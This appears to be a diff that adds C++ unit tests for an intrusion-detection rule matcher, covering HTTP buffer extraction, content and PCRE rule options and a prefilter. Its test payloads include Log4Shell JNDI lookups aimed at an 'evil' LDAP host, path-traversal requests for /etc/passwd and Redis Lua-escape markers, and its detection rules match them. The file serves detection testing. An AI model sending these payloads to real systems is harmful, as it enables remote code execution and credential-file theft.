@@ -1,0 +1,201 @@
+#include "ids/matcher.h"
+
+#include <gtest/gtest.h>
+
+#include "ids/rule_parser.h"
+#include "net/http.h"
+
+namespace cvewb::ids {
+namespace {
+
+net::TcpSession http_session(const std::string& payload, std::uint16_t dst_port = 80) {
+  net::TcpSession s;
+  s.open_time = util::TimePoint(1640000000);
+  s.src = net::IPv4(198, 51, 100, 9);
+  s.dst = net::IPv4(3, 208, 0, 1);
+  s.src_port = 51000;
+  s.dst_port = dst_port;
+  s.payload = payload;
+  return s;
+}
+
+std::string jndi_uri_request() {
+  net::HttpRequest req;
+  req.uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D";
+  req.add_header("Host", "x");
+  return req.serialize();
+}
+
+TEST(Buffers, ExtractionSplitsHttpParts) {
+  net::HttpRequest req;
+  req.method = "POST";
+  req.uri = "/a%2Fb";
+  req.add_header("Host", "h");
+  req.add_header("Cookie", "k=v");
+  req.add_header("X-Probe", "p");
+  req.body = "body-bytes";
+  const auto session = http_session(req.serialize());
+  const SessionBuffers buffers = extract_buffers(session);
+  EXPECT_TRUE(buffers.is_http);
+  EXPECT_EQ(buffers.method, "POST");
+  EXPECT_EQ(buffers.uri_raw, "/a%2Fb");
+  EXPECT_EQ(buffers.uri_decoded, "/a/b");
+  EXPECT_EQ(buffers.cookie, "k=v");
+  EXPECT_EQ(buffers.body, "body-bytes");
+  EXPECT_NE(buffers.headers.find("X-Probe: p"), std::string::npos);
+  EXPECT_EQ(buffers.headers.find("Cookie"), std::string::npos);  // cookie excluded
+}
+
+TEST(Buffers, NonHttpHasRawOnly) {
+  const SessionBuffers buffers = extract_buffers(http_session("*3\r\n$4\r\nEVAL\r\n"));
+  EXPECT_FALSE(buffers.is_http);
+  EXPECT_EQ(buffers.raw, "*3\r\n$4\r\nEVAL\r\n");
+}
+
+TEST(Matcher, HttpUriDecodedMatch) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"jndi uri"; content:"${jndi:"; http_uri; nocase; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.match_all(http_session(jndi_uri_request())).size(), 1u);
+  // Raw buffer rules do NOT see the decoded form.
+  auto raw_rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"jndi raw"; content:"${jndi:"; sid:2;))");
+  const Matcher raw_matcher(std::move(raw_rules));
+  EXPECT_TRUE(raw_matcher.match_all(http_session(jndi_uri_request())).empty());
+}
+
+TEST(Matcher, HttpBufferRuleNeverMatchesNonHttp) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"u"; content:"EVAL"; http_uri; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_TRUE(matcher.match_all(http_session("EVAL something")).empty());
+}
+
+TEST(Matcher, PortSensitivityToggle) {
+  auto make_rules = [] {
+    return parse_rules(
+        R"(alert tcp any any -> any [8090] (msg:"p"; content:"probe"; sid:1;))");
+  };
+  MatcherOptions sensitive;
+  sensitive.port_insensitive = false;
+  const Matcher strict(make_rules(), sensitive);
+  EXPECT_TRUE(strict.match_all(http_session("probe", 80)).empty());
+  EXPECT_EQ(strict.match_all(http_session("probe", 8090)).size(), 1u);
+
+  const Matcher loose(make_rules());  // §3.1 default: port-insensitive
+  EXPECT_EQ(loose.match_all(http_session("probe", 80)).size(), 1u);
+}
+
+TEST(Matcher, NegatedContentVetoes) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"n"; content:"attack"; content:!"simulation"; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.match_all(http_session("attack payload")).size(), 1u);
+  EXPECT_TRUE(matcher.match_all(http_session("attack simulation")).empty());
+}
+
+TEST(Matcher, OffsetDepthWindow) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"o"; content:"BBBB"; offset:4; depth:4; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.match_all(http_session("AAAABBBB")).size(), 1u);
+  EXPECT_TRUE(matcher.match_all(http_session("BBBBAAAA")).empty());
+  EXPECT_TRUE(matcher.match_all(http_session("AAAAABBBB")).empty());
+}
+
+TEST(Matcher, DistanceWithinRelativeMatch) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"d"; content:"EVAL"; content:"luaopen"; )"
+      R"(distance:0; within:16; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.match_all(http_session("EVAL xx luaopen_os")).size(), 1u);
+  EXPECT_TRUE(matcher.match_all(http_session("luaopen_os then EVAL")).empty());
+  EXPECT_TRUE(
+      matcher.match_all(http_session("EVAL" + std::string(40, '-') + "luaopen")).empty());
+}
+
+TEST(Matcher, EarliestPublishedMatchWins) {
+  auto rules = parse_rules(
+      "alert tcp any any -> any any (msg:\"late\"; content:\"token\"; "
+      "metadata: published 2022-06-01; sid:10;)\n"
+      "alert tcp any any -> any any (msg:\"early\"; content:\"token\"; "
+      "metadata: published 2021-05-01; sid:11;)\n"
+      "alert tcp any any -> any any (msg:\"undated\"; content:\"token\"; sid:12;)\n");
+  const Matcher matcher(std::move(rules));
+  const auto session = http_session("has token inside");
+  EXPECT_EQ(matcher.match_all(session).size(), 3u);
+  const Rule* best = matcher.earliest_published_match(session);
+  ASSERT_NE(best, nullptr);
+  EXPECT_EQ(best->sid, 11);
+}
+
+TEST(Matcher, NoMatchReturnsNull) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"x"; content:"absent"; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.earliest_published_match(http_session("nothing here")), nullptr);
+}
+
+TEST(Matcher, PcreConstrainsAfterContents) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"p"; content:"/login"; http_uri; )"
+      R"(pcre:"/user=(admin|root)\d*/P"; sid:1;))");
+  const Matcher matcher(std::move(rules));
+  net::HttpRequest req;
+  req.method = "POST";
+  req.uri = "/login";
+  req.add_header("Host", "x");
+  req.body = "user=admin123&pw=1";
+  EXPECT_EQ(matcher.match_all(http_session(req.serialize())).size(), 1u);
+  req.body = "user=guest&pw=1";
+  EXPECT_TRUE(matcher.match_all(http_session(req.serialize())).empty());
+}
+
+TEST(Matcher, PcreOnlyRuleMatchesRawBuffer) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"r"; pcre:"/EVAL.{0,40}luaopen_os/s"; sid:2;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_EQ(matcher.match_all(http_session("EVAL x\ny luaopen_os")).size(), 1u);
+  EXPECT_TRUE(matcher.match_all(http_session("luaopen_os EVAL")).empty());
+}
+
+TEST(Matcher, HttpPcreNeverMatchesNonHttp) {
+  auto rules = parse_rules(
+      R"(alert tcp any any -> any any (msg:"u"; pcre:"/EVAL/U"; sid:3;))");
+  const Matcher matcher(std::move(rules));
+  EXPECT_TRUE(matcher.match_all(http_session("EVAL raw")).empty());
+}
+
+TEST(Matcher, PrefilterEquivalentToExhaustive) {
+  // Property: with and without the Aho-Corasick prefilter, the match sets
+  // are identical over a varied payload corpus.
+  const std::string rule_text =
+      "alert tcp any any -> any any (msg:\"a\"; content:\"${jndi:\"; http_uri; nocase; sid:1;)\n"
+      "alert tcp any any -> any any (msg:\"b\"; content:\"${jndi:\"; http_header; nocase; "
+      "sid:2;)\n"
+      "alert tcp any any -> any any (msg:\"c\"; content:\"EVAL\"; content:\"luaopen\"; sid:3;)\n"
+      "alert tcp any any -> any any (msg:\"d\"; content:\"/etc/passwd\"; http_uri; sid:4;)\n";
+  MatcherOptions no_prefilter;
+  no_prefilter.use_prefilter = false;
+  const Matcher fast(parse_rules(rule_text));
+  const Matcher slow(parse_rules(rule_text), no_prefilter);
+
+  std::vector<std::string> corpus = {
+      jndi_uri_request(),
+      "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://e/a}\r\n\r\n",
+      "EVAL then luaopen_os",
+      "GET /..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\n\r\n",
+      "GET /etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
+      "nothing interesting",
+      "",
+  };
+  for (const auto& payload : corpus) {
+    const auto a = fast.match_all(http_session(payload));
+    const auto b = slow.match_all(http_session(payload));
+    ASSERT_EQ(a.size(), b.size()) << payload;
+    for (std::size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i]->sid, b[i]->sid);
+  }
+}
+
+}  // namespace
+}  // namespace cvewb::ids
